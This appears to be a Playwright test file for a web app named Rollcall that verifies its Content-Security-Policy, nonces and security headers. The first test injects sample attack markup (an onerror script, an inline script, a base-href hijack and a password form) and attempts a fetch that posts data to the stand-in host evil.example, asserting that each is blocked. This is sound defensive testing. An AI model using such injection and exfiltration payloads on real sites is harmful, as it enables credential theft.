import type { Page } from '@playwright/test';
import { expect, signIn, test, USERS } from './support/story';

/** That no page of the product breaks its own policy is watched in every story (support/story.ts). */

const policyOf = async (page: Page, path: string) => {
  const headers = (await page.goto(path))?.headers() ?? {};
  return headers['content-security-policy'] ?? '';
};

test('what gets into a page runs nothing, loads nothing and sends nothing away', async ({ browser, acme }) => {
  // A browser of its own: every story's own is watched for what this one provokes.
  const page = await (await browser.newContext()).newPage();
  const complaints: string[] = [];
  page.on('console', (message) => message.type() === 'error' && complaints.push(message.text()));
  await signIn(page, acme.admin);
  await page.goto(USERS);
  await page.evaluate(() => {
    const put = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
    put('<img src="x" onerror="document.title=\'handler\'">');
    put('<p style="position:fixed;inset:0" id="cover">cover</p>');
    put('<form id="thief" action="https://evil.example/" method="post"><input name="password"></form>');
    put('<base href="https://evil.example/">');
    put('<iframe src="/profile"></iframe>');
    const script = document.createElement('div');
    script.innerHTML = '<script>document.title = "inline"</script>';
    document.body.append(script);
  });
  const stolen = await page.evaluate(() =>
    fetch('https://evil.example/', { method: 'POST', body: 'x' }).then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(stolen).toBe('refused');
  expect(await page.title()).toBe('Users · Rollcall');
  expect(await page.locator('#cover').evaluate((cover) => getComputedStyle(cover).position)).toBe('static');
  expect(await page.evaluate(() => new URL('x', document.baseURI).host)).toBe(new URL(page.url()).host);
  // Last: the browser shows an empty page in place of the form that it did not send.
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#thief')?.submit());
  await expect.poll(() => complaints.some((words) => words.includes('form-action'))).toBe(true);
  expect(page.url()).toContain(USERS);
  for (const directive of ['script-src', 'style-src', 'base-uri', 'connect-src', 'default-src'])
    expect([directive, complaints.some((words) => words.includes(directive))]).toEqual([directive, true]);
});

test('each answer has a nonce of its own, and a plain page has none', async ({ page, request, acme }) => {
  await signIn(page, acme.admin);
  const nonces = new Set<string>();
  for (const path of ['/', USERS, '/profile', '/profile', '/administration/access/audit-log']) {
    const nonce = /'nonce-([^']+)'/.exec(await policyOf(page, path))?.[1] ?? '';
    expect(await page.locator('script').evaluateAll((all) => all.map((script) => script.nonce))).not.toContain('');
    nonces.add(nonce);
  }
  expect([nonces.size, nonces.has('')]).toEqual([5, false]);
  const refused = await request.get('/no-such-page');
  expect([refused.status(), refused.headers()['content-security-policy']]).toEqual([
    404,
    expect.stringMatching(/^default-src 'none'; style-src 'sha256-/),
  ]);
});

test('no answer of any kind goes out without its headers', async ({ request }) => {
  const asked: [string, number][] = [
    ['/sign-in', 200],
    ['/', 303],
    ['/no-such-page', 404],
    ['/icon.svg', 200],
    ['/api/health/live', 200],
    ['/api/v1/users', 401],
    ['/api/scim/v2/Users', 401],
    ['/api/auth/session', 200],
    ['/api/saml/nobody/metadata', 404],
    ['/_next/static/chunks/no-such.js', 404],
    ['/%', 404],
  ];
  for (const [path, status] of asked) {
    const answer = await request.get(path, { maxRedirects: 0 });
    const headers = answer.headers();
    expect([path, answer.status()]).toEqual([path, status]);
    expect([path, headers]).toEqual([
      path,
      expect.objectContaining({
        'content-security-policy': expect.stringContaining("frame-ancestors 'none'"),
        'x-content-type-options': 'nosniff',
        'referrer-policy': 'same-origin',
        'cross-origin-resource-policy': 'same-origin',
      }),
    ]);
    expect([path, headers['cache-control']]).toEqual([
      path,
      expect.stringMatching(path === '/icon.svg' ? /max-age=0/ : /no-store|no-cache/),
    ]);
    expect([path, headers['x-powered-by'], headers.server]).toEqual([path, undefined, undefined]);
  }
});
